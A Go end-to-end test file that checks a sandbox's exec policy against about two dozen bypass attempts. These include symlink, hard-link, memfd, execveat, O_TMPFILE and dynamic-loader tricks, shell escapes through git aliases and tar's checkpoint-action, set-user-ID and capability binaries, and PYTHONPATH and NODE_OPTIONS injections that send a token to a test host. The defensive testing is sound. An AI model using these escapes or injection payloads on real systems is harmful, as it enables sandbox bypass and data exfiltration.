//go:build e2e

package attacks

import (
	"bytes"
	"debug/elf"
	"encoding/binary"
	"errors"
	"os"
	"path/filepath"
	"strings"

	"github.com/nemoclaw/nemoclaw/test/harness"
	"golang.org/x/sys/unix"
)

func execPlanes() []*plane {
	killed := "signal: killed"
	programs := []attempt{
		{name: "a program that no rule names", user: true, do: "run /usr/bin/id", inside: "EACCES", landlock: true},
		{name: "by a symbolic link with an allowed name", user: true, do: "symlink /usr/bin/id python3 && run {d}/python3", inside: "EACCES", landlock: true},
		{name: "by a hard link", do: "link {ro}/id i && run {d}/i", inside: "EXDEV", setup: idInRO},
		{name: "a copy in the workspace", user: true, do: "copy /usr/bin/id i && run {d}/i", inside: killed, record: "exec {d}/i"},
		{name: "a copy in /tmp", user: true, do: "copy /usr/bin/id /tmp/{token} && run /tmp/{token}", inside: killed, record: "exec /tmp/{token}"},
		{name: "a copy in /dev/shm", user: true, do: "copy /usr/bin/id /dev/shm/{token} && run /dev/shm/{token} && unlink /dev/shm/{token}", inside: "EACCES"},
		{name: "a copy that is renamed to an allowed name", user: true, do: "copy /usr/bin/id i && rename i probe && run {d}/probe", inside: killed, record: "exec {d}/probe"},
		{name: "memory file", user: true, do: "run-memory /usr/bin/id", inside: "EACCES"},
		{name: "descriptor (`execveat` with an empty path)", user: true, do: "exec-fd /usr/bin/id", inside: "EACCES", landlock: true},
		{name: "`O_PATH` descriptor by `/proc/self/fd`", user: true, do: "exec-path /usr/bin/id", inside: "EACCES", landlock: true},
		{name: "a copy that is deleted before it starts", user: true, do: "exec-deleted /usr/bin/id i", inside: killed, record: "+exec /proc/*/fd/*"},
		{name: "a copy that never had a name (`O_TMPFILE`)", user: true, do: "exec-nameless /usr/bin/id .", inside: killed, record: "+exec /proc/*/fd/*"},
		{name: "a name that changes between an allowed and a forbidden program", user: true, do: "exec-race {ws}/probe {d}/bad {d}/x", inside: "never ran", record: "+exec {d}/x", setup: badCopy},
		{name: "the dynamic loader as a command", user: true, do: "run {ld} /usr/bin/id", inside: killed, record: "exec {ld}", setup: loader},
		{name: "the dynamic loader as an interpreter", user: true, do: "run {d}/s", inside: killed, record: "exec {d}/s", setup: script("#!{ld} /usr/bin/cat\n")},
		{name: "a script whose interpreter no rule names", user: true, do: "run {d}/s", inside: "EACCES", landlock: true, setup: script("#!/usr/bin/perl\nprint 1;\n")},
		{name: "a script whose interpreter is a script", user: true, do: "run {d}/t", inside: "EACCES", landlock: true, setup: chain},
		{name: "`#!/usr/bin/env` and a program that no rule names", user: true, do: "run {d}/s", inside: "exit status 126", landlock: true, setup: script("#!/usr/bin/env perl\nprint 1;\n")},
		{name: "`#!/usr/bin/env -S` with arguments", user: true, do: "run {d}/s", inside: "exit status 126", landlock: true, setup: script("#!/usr/bin/env -S cat -n\n")},
		{name: "from an allowed interpreter (`python3 -c`)", user: true, do: "run /usr/bin/python3 -c __import__('os').execv('/usr/bin/id',['id'])", inside: "exit status 1", landlock: true},
		{name: "a shell from git (`git -c alias`)", user: true, do: "ran uid= /usr/bin/git -c alias.x=!id x", inside: "exit status 128", landlock: true},
		{name: "a shell from tar, by its checkpoint action", user: true, do: "ran uid= /usr/bin/tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=id s", inside: "Permission denied", landlock: true, setup: script("x")},
		{name: "set-user-ID program that the host left in the workspace", user: true, do: "as {ws}/suid became-root", inside: "euid 1000"},
		{name: "program with capabilities that the host left in the workspace", user: true, do: "as {ws}/caps read {ro}/closed", inside: "EACCES", harm: leaked, setup: closed},
		{name: "a program that the policy names in a writable tree, overwritten", do: "copy /usr/bin/id {ws}/tool && run {ws}/tool",
			open: "the policy names a file that the sandbox may write, and the start warns of it; level full can hold it to its content"},
		{name: "what only python3 may connect to, through python3's environment (`PYTHONPATH`)", user: true, do: "with PYTHONPATH={d} /usr/bin/python3 -c pass", harm: arrived, setup: sitecustomize,
			note: "`EPERM` for its code", record: "network " + ownName + ":7"},
		{name: "what only node may connect to, through node's environment (`NODE_OPTIONS`)", user: true, do: "with NODE_OPTIONS=--require={d}/evil.js /usr/bin/node -p 1", harm: arrived, setup: required,
			inside: "exit status 1", record: "network " + ownName + ":7"},
	}
	return []*plane{{
		name: "programs", table: programs, host: programsOfHost,
		commands: "    - {command: python3}\n    - {command: git}\n    - {command: tar}\n    - {command: node}\n    - {command: /workspace/suid}\n    - {command: /workspace/caps}\n    - {command: /workspace/tool}\n",
		allow:    "    - {domain: " + ownName + ", ports: [7], protocol: tcp, commands: [python3, node]}\n",
	}}
}

// What only python3 and node may connect to.
const ownName = "only.programs.attacks.test"

var ownServer *harness.Server

func arrived(s *scene, _ string) bool { return strings.Contains(ownServer.Bytes(), s.token) }

func sitecustomize(s *scene) {
	s.write(filepath.Join(s.ws, "sitecustomize.py"), s.expand("import socket\nc = socket.create_connection(('"+ownName+"', 7))\nc.sendall(b'{token}')\nc.recv(1)\n"))
}

func required(s *scene) {
	s.write(filepath.Join(s.ws, "evil.js"), s.expand("const c = require('net').connect(7, '"+ownName+"', () => c.write('{token}'));\nc.on('data', () => process.exit(0));\n"))
}

// programsOfHost puts programs into the workspace as a careless host might: one with a set-user-ID bit, one with capabilities, and
// one that the policy names.
func programsOfHost(p *place) {
	a4, _ := harness.W.Addr()
	harness.W.DNS.Set(ownName, a4)
	ownServer = harness.W.TCP(p, a4, 7)
	probe, err := os.ReadFile(harness.W.ProbeBin)
	if err != nil {
		p.Fatal(err)
	}
	for name, mode := range map[string]os.FileMode{"suid": 0o755 | os.ModeSetuid, "caps": 0o755, "tool": 0o755} {
		path := filepath.Join(p.ws, name)
		if err := errors.Join(os.WriteFile(path, probe, 0o755), os.Chmod(path, mode)); err != nil {
			p.Fatal(err)
		}
	}
	// struct vfs_cap_data, revision 2: CAP_DAC_OVERRIDE permitted and effective.
	var b []byte
	for _, v := range []uint32{0x02000001, 1 << unix.CAP_DAC_OVERRIDE, 0, 0, 0} {
		b = binary.LittleEndian.AppendUint32(b, v)
	}
	if err := unix.Setxattr(filepath.Join(p.ws, "caps"), "security.capability", b, 0); err != nil {
		p.Fatal(err)
	}
}

// closed makes a file that only its owner may read, who is neither the attacker nor the workspace's owner.
func closed(s *scene) {
	path := filepath.Join(s.ro, "closed")
	s.write(path, s.token)
	const somebody = 4321
	if err := errors.Join(os.Chmod(path, 0o600), os.Chown(path, somebody, somebody)); err != nil {
		s.Fatal(err)
	}
}

// install makes a program.
func install(s *scene, path string, content []byte, mode os.FileMode) {
	s.Helper()
	if err := errors.Join(os.WriteFile(path, content, 0o755), os.Chmod(path, mode)); err != nil {
		s.Fatal(err)
	}
}

func contentOf(s *scene, path string) []byte {
	s.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		s.Fatal(err)
	}
	return b
}

func idInRO(s *scene)  { install(s, filepath.Join(s.ro, "id"), contentOf(s, "/usr/bin/id"), 0o755) }
func badCopy(s *scene) { install(s, filepath.Join(s.ws, "bad"), contentOf(s, "/usr/bin/id"), 0o755) }

// loaderPath finds the dynamic loader that programs here ask for.
func loaderPath() (string, error) {
	f, err := elf.Open("/usr/bin/id")
	if err != nil {
		return "", err
	}
	defer f.Close()
	for _, p := range f.Progs {
		if p.Type == elf.PT_INTERP {
			b := make([]byte, p.Filesz)
			_, err := p.ReadAt(b, 0)
			return string(bytes.TrimRight(b, "\x00")), err
		}
	}
	return "", errors.New("/usr/bin/id asks for no dynamic loader")
}

func loader(s *scene) {
	path, err := loaderPath()
	if err != nil {
		s.Fatal(err)
	}
	s.set("ld", path)
}

func script(text string) func(*scene) {
	return func(s *scene) {
		loader(s)
		install(s, filepath.Join(s.ws, "s"), []byte(s.expand(text)), 0o755)
	}
}

// chain is a script for a script for a program.
func chain(s *scene) {
	script("#!/usr/bin/perl\nprint 1;\n")(s)
	install(s, filepath.Join(s.ws, "t"), []byte(s.expand("#!{d}/s\n")), 0o755)
}
